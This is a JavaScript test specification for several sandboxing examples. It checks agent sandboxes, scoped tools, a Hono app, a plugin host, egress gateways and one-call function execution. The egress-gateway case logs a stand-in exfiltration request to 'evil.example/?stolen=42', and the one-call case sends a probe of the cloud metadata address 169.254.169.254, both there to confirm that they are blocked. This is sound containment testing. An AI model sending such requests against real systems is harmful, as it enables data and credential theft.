// SPDX-License-Identifier: Apache-2.0
//
// What the README of each example promises.

const example = (name, cases) => ({ name: `example ${name}`, targets: [`examples/${name}`], cases });

export const examples = [
  example("agent-sandbox", [
    {
      name: "the agent's method answers",
      request: "/",
      expect: { status: 200, text: /^\{"doubled":42,"ts":\d{13}\}$/ },
    },
    {
      name: "again and again, with code loaded anew",
      request: "/",
      times: 100,
      expect: { status: 200, text: /^\{"doubled":42,"ts":\d{13}\}$/ },
    },
  ]),
  example("scoped-tools", [
    {
      name: "the tool is bound to ada",
      request: "/",
      times: 100,
      expect: { text: '{"meeting":"11:00","network":"closed"}' },
    },
    {
      name: "the tool is bound to grace",
      request: "/?user=grace",
      expect: { text: '{"meeting":"9:00","network":"closed"}' },
    },
  ]),
  example("warm-app", [
    {
      name: "Hono answers /",
      request: "/",
      expect: { status: 200, text: "Hello from Hono\n", headers: { "content-type": /^text\/plain/i } },
    },
    {
      name: "Hono answers /json",
      request: "/json",
      expect: { json: { framework: "hono", answered: 1 }, headers: { "content-type": "application/json" } },
    },
    { name: "the application stays warm", request: "/json", expect: { json: { framework: "hono", answered: 2 } } },
    { name: "Hono's own 404", request: "/missing", expect: { status: 404, text: "404 Not Found" } },
  ]),
  example("plugin-host", [
    {
      name: "the plugin transforms",
      request: "/",
      times: 100,
      expect: {
        json: { plugin: "slug 1.0.0", text: "The Art of Computer Programming", slug: "art-computer-programming" },
      },
    },
    {
      name: "the plugin transforms what it is given",
      request: "/?text=A+Caf%C3%A9+and+the+Sea",
      expect: { text: '{"plugin":"slug 1.0.0","text":"A Café and the Sea","slug":"cafe-sea"}' },
    },
  ]),
  example("egress-gateway", [
    {
      name: "one host is let through with a credential, others are blocked",
      request: "/",
      times: 100,
      expect: { json: { order: { path: "/v2/orders/7", total: 42 }, elsewhere: 403, bindings: [] } },
      log: [/acme: GET https:\/\/shop\.example\/orders\/7/, /acme: GET https:\/\/evil\.example\/\?stolen=42/],
    },
  ]),
  {
    runtimes: ["mayfly"], // no other has mayfly:sandbox
    ...example("one-call", [
      {
        name: "one call runs a function",
        request: "/",
        times: 20,
        expect: { text: '{"result":[3,4,8]}' },
      },
      {
        name: "one call runs what it is sent",
        request: { method: "POST", path: "/", body: '(words) => words.join("-")' },
        expect: { text: '{"result":"one-call-suffices"}' },
      },
      {
        name: "one call holds a loop to its limit",
        request: { method: "POST", path: "/", body: "() => { for (;;); }" },
        expect: { status: 422, json: { error: "CpuLimitExceeded: Worker exceeded CPU time limit of 50 ms." } },
      },
      {
        name: "one call opens no other origin than it names",
        request: { method: "POST", path: "/", body: '() => fetch("http://169.254.169.254/")' },
        expect: { status: 422, text: /EgressDenied/ },
      },
    ]),
  },
];
